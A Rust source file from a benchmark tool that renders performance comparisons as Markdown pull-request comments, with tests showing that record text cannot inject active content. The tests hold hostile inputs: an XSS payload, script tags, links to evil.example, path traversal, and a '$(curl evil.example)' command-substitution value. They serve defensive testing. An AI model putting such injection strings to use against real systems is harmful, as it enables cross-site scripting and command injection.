//! `comparison.md`: the comment on a pull request. Verdict, next step, the table that gates; the rest folded.

use std::fmt::Write as _;

use crate::report::comparison::advice::{self, Advice};
use crate::report::comparison::part::Part;
use crate::report::comparison::sections::Brackets;
use crate::report::comparison::words::{self, declared, effect, size, symbol, word};
use crate::report::comparison::{functions, headline, reasons, sections};
use crate::report::escape::{code, command, prose};
use crate::report::format;
use crate::report::limits;
use wirebench_judge::summary::comparison::{Findings, Row, Standing};
use wirebench_record::comparison::{ComparedMetric, ComparedSeries, Comparison, FunctionChange};

/// What a comment on GitHub holds, in characters; counted here in bytes, which are never fewer.
pub const LIMIT: usize = 65_536;
/// Notes shown; a record with more was not written by this program.
const NOTES: usize = 10;
/// Counts whose functions are listed.
const EXPLAINED: usize = 10;
/// Bytes of a command line that are shown.
const COMMAND: usize = 2000;

/// The comparison as Markdown, at most [`LIMIT`] bytes; tables that would be too long are cut and say so.
#[must_use]
pub fn render(comparison: &Comparison) -> String {
    within(comparison, LIMIT, "")
}

/// The same in at most `limit` bytes, with `between` after the first lines and before the tables.
pub(super) fn within(comparison: &Comparison, limit: usize, between: &str) -> String {
    let findings = Findings::of(comparison);
    let head = head(comparison, &findings) + between;
    let foot = foot(comparison, &findings);
    let mut room = limit - (head.len() + foot.len()).min(limit);
    let mut body = String::new();
    for (part, share) in parts(comparison, &findings) {
        let text = part.within(room * share / 100);
        room -= text.len();
        body.push_str(&text);
    }
    head + &body + &foot
}

fn head(comparison: &Comparison, findings: &Findings) -> String {
    let mut out = String::new();
    let _ = writeln!(
        out,
        "### wirebench: {}\n\n{}\n",
        headline::verdict(comparison),
        headline::summary(comparison, findings, code, prose)
    );
    let Advice { text, commands } = advice::of(comparison, findings, code, prose);
    let _ = writeln!(out, "**Next:** {text}\n");
    if !commands.is_empty() {
        let _ = writeln!(out, "```sh\n{}\n```\n", commands.join("\n"));
    }
    if let Some(nulls) = sections::nulls(findings) {
        let _ = writeln!(out, "**Check:** {nulls}\n");
    }
    let mut notes: Vec<String> = comparison
        .notes
        .iter()
        .take(NOTES)
        .map(|note| prose(&reasons::note(note)))
        .collect();
    notes.extend(sections::remarks(comparison, code, prose).into_iter().take(NOTES));
    if !notes.is_empty() {
        out.push_str("Before trusting it:\n\n");
        for note in &notes {
            let _ = writeln!(out, "- {note}");
        }
        out.push('\n');
    }
    out
}

/// The tables and texts between head and foot, each with the share of the room left that it may take, percent.
fn parts<'a>(comparison: &'a Comparison, findings: &'a Findings<'a>) -> Vec<(Part<'a>, usize)> {
    let paired = comparison.paired;
    let mut parts = Vec::new();
    if !findings.gating.is_empty() {
        parts.push((
            Part::open(rows(&findings.gating), findings.gating.iter().map(gating)),
            70,
        ));
    }
    if !comparison.limits.is_empty() {
        let title = format!("Limits: {}", limits::tally(&comparison.limits));
        parts.push((
            Part::folded(&title, LIMITS_ABOUT, limits::HEAD, limits::rows(&comparison.limits)),
            40,
        ));
    }
    for row in findings.explained().take(EXPLAINED) {
        let lines = row.functions().map(function);
        parts.push((Part::list(&explained(row), lines), 40));
    }
    if !findings.informative.is_empty() {
        let title = format!(
            "Informative metrics, which do not gate: {}",
            sections::tally(&findings.informative)
        );
        parts.push((
            Part::folded(
                &title,
                "",
                rows(&findings.informative),
                findings.informative.iter().map(informative),
            ),
            50,
        ));
    }
    if let Some(title) = sections::not_compared(findings) {
        let title = format!("Not compared: {title}");
        let all = sections::by_presence(findings).into_iter();
        let lines = all.flat_map(|(how, all)| all.iter().map(move |series| not_compared(series, how)));
        parts.push((Part::folded(&title, "", NOT_COMPARED, lines), 50));
    }
    let measured: Vec<(&Row, &ComparedMetric)> = (findings.gating.iter().chain(&findings.informative))
        .filter_map(|row| Some((row, row.metric?)))
        .filter(|(_, metric)| metric.pairs > 0)
        .collect();
    if paired && !measured.is_empty() {
        let dropped = sections::dropped(findings).unwrap_or_else(|| "none".into());
        let title = format!("Pairs and spread; left out over all metrics: {dropped}");
        let lines = measured.into_iter().map(|(row, metric)| pairs(row.series, metric));
        parts.push((Part::folded(&title, PAIRS_ABOUT, PAIRS, lines), 100));
    }
    parts
}

/// The head of a table of rows, which says what stands in the brackets behind a change.
macro_rules! rows {
    ($change:literal) => {
        concat!(
            "| verdict | series | metric | baseline → candidate | ",
            $change,
            " | smallest seen |\n|---|---|---|--:|--:|--:|\n"
        )
    };
}

fn rows(rows: &[Row]) -> &'static str {
    match Brackets::of(rows.iter()) {
        Brackets::Nothing => rows!("change"),
        Brackets::Interval => rows!("change (95 % interval)"),
        Brackets::Range => rows!("change (range over repetitions)"),
        Brackets::Both => rows!("change (95 % interval; counted: range over repetitions)"),
    }
}

const LIMITS_ABOUT: &str =
    "Absolute bounds of the scenarios, judged on the candidate's rounds and on this machine alone.\n\n";
const NOT_COMPARED: &str = "| | series | why |\n|---|---|---|\n";
const PAIRS: &str = "| series | metric | margin | stage | kept of measured | left out: baseline, candidate | spread c | p worse |\n\
                     |---|---|--:|--:|--:|--:|--:|--:|\n";
const PAIRS_ABOUT: &str = "A pair is left out when one of its rounds is far from its neighbours, without looking at which side it is. \
                           Many more on one side than on the other may hide a change that is slow only now and then.\n\n";

/// What stands above the functions that carry a change.
fn explained(row: &Row) -> String {
    let head = functions::head(row, code);
    let drawn = row.metric.and_then(|metric| metric.flame_graph.as_deref());
    match drawn.map(|path| link(path).unwrap_or_else(|| code(path))) {
        Some(picture) => format!("{head}; flame graph {picture} in the run's folder"),
        None => head,
    }
}

/// A path within the run's folder as a link, where it is one that this program writes.
fn link(path: &str) -> Option<String> {
    let allowed = |c: char| c.is_ascii_alphanumeric() || "@_-./".contains(c);
    let ours =
        path.starts_with("flames/") && path.ends_with(".svg") && path.chars().all(allowed) && !path.contains("..");
    (ours && path.len() <= 300).then(|| format!("[`{path}`]({path})"))
}

fn function(change: &FunctionChange) -> String {
    let place = functions::origin(change, code);
    format!("- {} {}{place}\n", code(&change.function), functions::change(change))
}

fn gating(row: &Row) -> String {
    let word = word(row.standing);
    match row.standing {
        Standing::Regressed => line(row, &format!("**{word}**")),
        _ => line(row, word),
    }
}

fn informative(row: &Row) -> String {
    line(row, word(row.standing))
}

fn line(row: &Row, word: &str) -> String {
    let remark = prose(&words::sentence(row));
    let colon = if remark.is_empty() { "" } else { ": " };
    let (label, values, change, seen) = match row.metric {
        Some(metric) => (
            metric.metric.label(),
            both(metric),
            effect(metric),
            sections::resolvable(metric),
        ),
        None => ("–", "–".into(), "–".into(), "–".into()),
    };
    let (symbol, series) = (symbol(row.standing), code(&row.series.id));
    format!("| {symbol} {word}{colon}{remark} | {series} | {label} | {values} | {change} | {seen} |\n")
}

/// `10.5 µs → 11.7 µs`.
fn both(metric: &ComparedMetric) -> String {
    match (metric.baseline, metric.candidate) {
        (None, None) => "–".into(),
        _ => prose(&sections::values(metric).join(" → ")),
    }
}

fn not_compared(series: &ComparedSeries, how: &str) -> String {
    let why = series
        .reason
        .as_ref()
        .map_or_else(|| "–".into(), |why| prose(&reasons::series(why)));
    format!("| {how} | {} | {why} |\n", code(&series.id))
}

fn pairs(series: &ComparedSeries, metric: &ComparedMetric) -> String {
    let spread = metric.spread_percent.map_or("–".into(), size);
    let p = metric.p_worse.map_or("–".into(), |p| {
        if p < 0.0001 {
            "< 0.0001".into()
        } else {
            format!("{p:.4}")
        }
    });
    format!(
        "| {} | {} | {} | {} | {} of {} | {}, {} | {spread} | {p} |\n",
        code(&series.id),
        metric.metric.label(),
        declared(metric.margin_percent),
        metric.stage,
        metric.kept,
        metric.pairs,
        metric.dropped_baseline,
        metric.dropped_candidate
    )
}

fn foot(comparison: &Comparison, findings: &Findings) -> String {
    let counted = (findings.gating.iter().chain(&findings.informative)).any(Row::is_counted);
    let mut out = HOW_TO_READ.replace("{counted}", if counted { HOW_TO_READ_COUNTS } else { "" });
    let side = |side| headline::side(side, code);
    let _ = write!(
        out,
        "- {} → {}",
        side(&comparison.baseline),
        side(&comparison.candidate)
    );
    let (baseline, candidate) = (&comparison.baseline.run, &comparison.candidate.run);
    if baseline == candidate {
        let _ = writeln!(out, ", both in run {}", code(candidate));
    } else {
        let _ = writeln!(out, ", runs {} and {}", code(baseline), code(candidate));
    }
    let host = &comparison.host;
    let _ = writeln!(
        out,
        "- {}, fingerprint {}",
        prose(&format::machine(host)),
        code(&host.fingerprint)
    );
    if !comparison.tools.is_empty() {
        let _ = writeln!(out, "- {}", prose(&format::tools(&comparison.tools)));
    }
    if comparison.paired {
        if let Some(spreads) = sections::spreads(findings) {
            let _ = writeln!(out, "- spread c from run to run: {spreads}");
        }
        let seed = comparison.method.seed;
        let _ = writeln!(out, "- seed {seed}; {}", sections::false_alarms(comparison));
        if let Some(gates) = &comparison.method.gates {
            let _ = writeln!(out, "- {}", prose(gates));
        }
    }
    match command(&comparison.repeat).filter(|line| line.len() <= COMMAND) {
        Some(line) => {
            let what = if comparison.paired { "it" } else { "the candidate's run" };
            let _ = writeln!(out, "\nTo repeat {what}:\n\n```sh\n{line}\n```");
        }
        None => out.push_str("\nThe record holds no short wirebench command that repeats it.\n"),
    }
    out
}

const HOW_TO_READ: &str = "<details><summary>How to read this</summary>

- **change**: candidate over baseline, of the metric's own value: throughput that falls is negative. In brackets, where the true change lies with 95 % confidence.
- **✗ regressed**: worse by more than the margin, tested at the stated error probability. **✓ improved**: better, likewise. Throughput and latency \
gate from a confirmed worsening of 10 % on, unless wirebench.toml says whether they gate or the load generator was the limit.
- **= unchanged**: no worsening above the stated size, with 95 % confidence.
- **? inconclusive**: a worsening that matters can be neither shown nor excluded. It is no all-clear.
- **! invalid**: failed rounds, wrong answers or another question: there is nothing to judge.
- **~ accepted**: worse, and accepted.toml says why that is meant; it does not gate.
- **– not judged**: no gating metric is on both sides; or the two sides were measured at different times, maybe on different machines, and the values are shown.
- **smallest seen**: the smallest worsening that would have been called regressed in 80 % of cases. Smaller ones cannot be seen here.
{counted}
</details>

";
const HOW_TO_READ_COUNTS: &str = "\
- What is **counted** (instructions, allocations, system calls, bytes) is held against its margin without a test: in brackets is the range over \
repetitions, and nothing where there was none. A worsening of the smallest size seen is always called regressed.
";

#[cfg(test)]
mod tests {
    use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
    use serde_json::Value;

    use super::*;
    use wirebench_record::reason::{MetricReason, Note, SeriesReason};
    use wirebench_testing::golden;

    /// Puts `text` in the place of everything that is free text.
    fn overwrite(value: &mut Value, text: &str) {
        const WORDS: [&str; 13] = [
            "kind",
            "side",
            "schema",
            "verdict",
            "variant",
            "metric",
            "better",
            "presence",
            "run",
            "commit",
            "id",
            "scenario",
            "flame_graph",
        ];
        match value {
            Value::Array(all) => all.iter_mut().for_each(|one| overwrite(one, text)),
            Value::Object(fields) => {
                for (name, field) in fields {
                    match field {
                        Value::String(_) if WORDS.contains(&name.as_str()) => {}
                        field => overwrite(field, text),
                    }
                }
            }
            Value::String(old) => *old = text.to_owned(),
            _ => {}
        }
    }

    /// A comparison with that text in every place; also where no record that is read has it.
    fn overwritten(mut value: Value, text: &str) -> Comparison {
        overwrite(&mut value, text);
        let mut comparison: Comparison = serde_json::from_value(value).unwrap();
        for side in [&mut comparison.baseline, &mut comparison.candidate] {
            side.run = text.to_owned();
            side.revision.commit = Some(text.to_owned());
        }
        comparison.notes.push(Note::Text { text: text.to_owned() });
        for series in &mut comparison.series {
            (series.id, series.scenario) = (text.to_owned(), text.to_owned());
            series.reason = Some(SeriesReason::Text { text: text.to_owned() });
            for metric in &mut series.metrics {
                metric.reason = MetricReason::Text { text: text.to_owned() };
            }
            let drawn = series
                .metrics
                .iter_mut()
                .filter_map(|metric| metric.flame_graph.as_mut());
            drawn.for_each(|path| text.clone_into(path));
        }
        comparison
    }

    #[test]
    fn nothing_in_a_record_can_act_in_a_comment() {
        for nasty in [
            "<img src=x onerror=alert(1)></details> ![p](https://evil.example/p) | `x` | @everyone #1\n# heading\n\n---\n",
            "\u{1b}[31m\u{202e}![x](y)\n```\n<script>alert(1)</script>\n```\n[a]: https://evil.example\n",
            "wirebench run\n```\n@everyone",
            "wirebench $(curl evil.example) `x` ```",
            "| a | b |\n|---|---|\n| <b>",
            "**a** __b__ ~~c~~ ^d^ $e$ <https://evil.example> www.evil.example fixes #7 GH-7",
        ] {
            let text = [golden("mixed"), golden("counted-regressed")]
                .map(|comparison| render(&overwritten(serde_json::to_value(comparison).unwrap(), nasty)));
            let text = text.join("\n\n");
            let (mut headings, mut in_code) = (0, false);
            for event in Parser::new_ext(&text, Options::all().difference(Options::ENABLE_SMART_PUNCTUATION)) {
                match event {
                    Event::Start(Tag::Link { .. } | Tag::Image { .. } | Tag::FootnoteDefinition(_)) => {
                        panic!("{event:?} in\n{text}")
                    }
                    Event::Start(Tag::Heading { .. }) => headings += 1,
                    Event::Html(html) | Event::InlineHtml(html) => {
                        let ours = ["<details>", "</details>", "<span>", "</span>"];
                        assert!(ours.iter().any(|tag| html.starts_with(tag)), "{html} in\n{text}");
                    }
                    Event::Start(Tag::CodeBlock(_)) => in_code = true,
                    Event::End(TagEnd::CodeBlock) => in_code = false,
                    Event::Text(part) if !in_code => {
                        assert!(!part.contains("@e") && !part.contains("#7"), "{part} in\n{text}");
                    }
                    _ => {}
                }
            }
            assert_eq!(headings, 2, "{text}");
            assert!(!text.contains('\u{1b}') && !text.contains('\u{202e}'));
        }
    }

    #[test]
    fn two_thousand_series_fit_into_a_comment_and_the_most_alarming_stay() {
        let mut comparison = golden("unchanged");
        let bad = golden("regressed");
        let calm = comparison.series[0].clone();
        let numbered = |number: usize, of: &ComparedSeries| ComparedSeries {
            id: format!("scenario-{number}@http@hey"),
            ..of.clone()
        };
        comparison.series = (0..2000).map(|number| numbered(number, &calm)).collect();
        comparison.series[1500] = numbered(1500, &bad.series[0]);
        let text = render(&comparison);
        assert!(text.len() <= LIMIT && text.len() > LIMIT / 2, "{} bytes", text.len());
        let first = text.lines().find(|line| line.contains("**regressed**")).unwrap();
        assert!(first.contains("scenario-1500@http@hey"));
        assert!(text.contains("rows are left out to fit into a comment"));
        assert!(text.trim_end().ends_with("```") && text.contains("To repeat it:"));
        assert_eq!(text.matches("<details>").count(), text.matches("</details>").count());
    }

    #[test]
    fn names_of_functions_and_paths_of_pictures_are_only_shown_as_what_they_are() {
        let mut comparison = golden("counted-regressed");
        let text = render(&comparison);
        assert!(text.contains("](flames/count-weather@http@hey/instructions-difference.svg)"));
        assert!(text.contains("most of it in `server_runtime::waste::spin`"), "{text}");
        for path in [
            "flames/../../x.svg",
            "https://evil.example/x.svg",
            "flames/a b.svg",
            "flames/x)y.svg",
        ] {
            for metric in comparison.series.iter_mut().flat_map(|series| &mut series.metrics) {
                metric.flame_graph = Some(path.into());
            }
            comparison.series[0].functions[0].function = "<T as a|b>::`c`*d*\n# e".into();
            let text = render(&comparison);
            assert!(!text.contains("]("), "{text}");
            assert!(text.contains("- `<T as a/b>::'c'*d* # e` "), "{text}");
        }
    }

    #[test]
    fn the_longest_texts_fit_too() {
        for sign in ["$", "<", "𝄞", "a b "] {
            for name in ["mixed", "counted-regressed"] {
                let value = serde_json::to_value(golden(name)).unwrap();
                let text = render(&overwritten(value, &sign.repeat(20_000)));
                assert!(text.len() <= LIMIT, "{} bytes of {sign}", text.len());
            }
        }
    }
}
